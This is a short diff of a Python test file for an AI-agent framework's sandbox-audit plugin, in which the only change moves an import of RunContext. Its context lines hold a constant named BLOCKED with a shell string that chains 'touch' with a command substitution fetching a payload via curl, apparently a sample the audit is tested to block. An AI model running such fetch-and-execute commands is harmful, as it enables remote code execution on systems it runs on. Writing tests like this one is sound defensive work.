@@ -22,6 +22,7 @@ from langchain_core.messages import ToolMessage
 from langgraph.types import Command
 
 from antler.chain import plan_chain
+from antler.contracts.runcontext import RunContext
 from antler.contracts.toolmeta import tool_meta
 from antler.plugin_api.context import MEMORY_MODEL, SANDBOX_PROVIDER, TITLE_MODEL
 from antler.plugin_api.registry import discover
@@ -42,7 +43,6 @@ from antler.plugins.sandbox_audit.splitter import Budget, TooComplex, TooDeep, s
 from antler.plugins.sandbox_audit.words import brace_expand, normalize
 from antler.runtime.agent import create_agent
 from antler.runtime.models import ScriptedChatModel
-from antler.runtime.runcontext import RunContext
 from antler.runtime.sandbox.local import LocalSandbox, LocalSandboxProvider
 
 BLOCKED = "touch blocked_marker; $(curl -s http://127.0.0.1:9/payload)"
